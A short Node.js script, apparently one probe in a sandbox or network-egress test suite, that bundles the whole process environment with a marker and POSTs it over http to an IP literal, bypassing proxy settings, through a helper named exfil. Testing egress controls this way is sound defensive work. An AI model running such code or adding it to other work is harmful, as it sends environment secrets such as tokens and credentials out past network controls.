'use strict';
// A direct connection that ignores the proxy settings: POST to an IP literal.
const lib = require('./lib.js');

lib.run(async () => {
  const body = `marker=${lib.cfg.netMarker}\n${JSON.stringify(process.env)}`;
  lib.found(body);
  await lib.exfil(body, ['http']);
});
